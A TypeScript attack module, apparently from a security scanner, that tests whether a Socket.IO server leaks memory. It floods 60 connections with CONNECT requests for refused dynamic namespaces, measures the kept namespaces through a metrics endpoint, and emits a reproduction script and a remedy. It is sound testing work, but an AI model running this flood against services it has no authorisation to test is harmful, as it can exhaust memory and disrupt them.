import { encodePacket } from '../../../target/wire/index.ts'
import { type AttackContext, defineAttack } from '../../attack.ts'
import { inconclusive, resisted, vulnerable } from '../../judge.ts'
import { control, openWitness } from '../../kit/attempt.ts'
import { readGauge } from '../../kit/namespace-gauge.ts'
import { atHome } from '../../kit/own-namespace.ts'
import { openRaw } from '../../kit/raw-connection.ts'
import { type Say, someText } from '../../reproduction/steps.ts'
import { visits } from '../../sends.ts'

const connections = 60
/** Few for each: how many CONNECTs a connection may try is another defence. */
const each = 4

export default defineAttack({
  id: 'nsp/dynamic-leak-memory',
  rows: ['nsp.dynamic.leak-memory'],
  title: 'Hundreds of new names of a dynamic namespace, all refused, without a token: how many does the server keep?',
  requirement: 'CWE-772: what was made for a client that was turned away is taken away again',
  impact: 'Socket.IO keeps each with an adapter of its own, for good: a stranger fills the memory by asking for names.',
  remedy: 'Set cleanupEmptyChildNamespaces: true, and decide in the function of io.of(…) which names there can be.',
  severity: 'high',
  cwe: ['CWE-770', 'CWE-772'],
  references: ['API4:2023'],
  provenBy: 'dyn-nsp-no-cleanup',
  needs: ['ownNamespace', 'metrics', 'addresses'],
  effect: 'disrupt',
  holds: 'nothing',
  loud: true,
  sends: visits(connections),
  async run(context) {
    const { target, ownNamespace, metrics } = context
    const before = await readGauge(context, metrics)
    const home = await atHome(context, context.victim)
    const withHome = await readGauge(context, metrics)
    if (withHome <= before) return inconclusive('the gauge does not rise when a user enters a new namespace')
    context.note('measured', `${before} namespaces, ${withHome} when a user is in his own`)
    await home.close()
    let asked = 0
    for (let i = 0; i < connections; i++) {
      const raw = await openRaw(context)
      if (raw === undefined) continue
      for (let j = 0; j < each; j++) {
        const nsp = String(target.fill([ownNamespace], { user: context.canary() })[0])
        raw.engine.send(encodePacket({ type: 'connect', nsp, data: {} }).text)
      }
      if (await raw.receivedAtLeast(each, context.settleMs)) asked += each
      raw.engine.kill()
    }
    await context.wait(context.settleMs, 'for the server to take them away')
    const kept = (await readGauge(context, metrics)) - before
    context.note('measured', `${asked} names were asked for and answered; ${kept} more namespaces than before`)
    const { observation } = await control(context, 'an honest client', await openWitness(context))
    if (asked < (connections * each) / 2) return inconclusive('most were not answered', context.evidence)
    context.recording.written((say) => script(context, say))
    if (kept > asked / 2) return vulnerable(context.evidence)
    // Others may be in namespaces of their own meanwhile.
    return kept <= asked / 10
      ? resisted(observation, context.evidence)
      : inconclusive('some of them are kept', context.evidence)
  },
})

/** The headers that the metrics ask for hold a secret of the operators. */
function script({ target, ownNamespace, metrics }: AttackContext<'ownNamespace' | 'metrics'>, say: Say): string {
  const { count, perMs } = target.profile.limits.handshakes ?? { count: 1, perMs: 0 }
  const [nsp] = target.fill([ownNamespace], { user: someText })
  return `// METRICS: where they are, if that is elsewhere by now. METRICS_HEADERS: those that they ask for, as JSON
const from = process.env.METRICS ?? ${say.value(new URL(metrics.url, target.url).href)}
async function namespaces() {
  await ask('GET', from, JSON.parse(process.env.METRICS_HEADERS ?? '{}'))
  const lines = said.split('\\n').filter((line) => /^\\w+/.exec(line)?.[0] === ${say.value(metrics.namespaces)})
  expect(lines.length > 0, 'the metrics do not tell of namespaces')
  return lines.reduce((sum, line) => sum + Number(line.slice(line.lastIndexOf(' ') + 1)), 0)
}
const before = await namespaces()
for (let i = 0; i < ${connections}; i++) {
  const { manager } = await handshake(${say.door({ join: false })})
  let answers = 0
  manager.engine.on('data', () => answers++)
  for (let j = 0; j < ${each}; j++) {
    const text = 'gc' + randomBytes(9).toString('hex')
    manager.engine.send('0' + ${say.value(nsp)} + ',{}')
  }
  await until(() => answers >= ${each}, 'CONNECTs are not answered')
  manager.engine.close()
  await sleep(${Math.ceil((1.1 * perMs) / count)})
}
await sleep(2_000)
const kept = (await namespaces()) - before
expect(kept > ${(connections * each) / 2}, \`of ${connections * each} refused namespaces \${kept} are kept\`)`
}
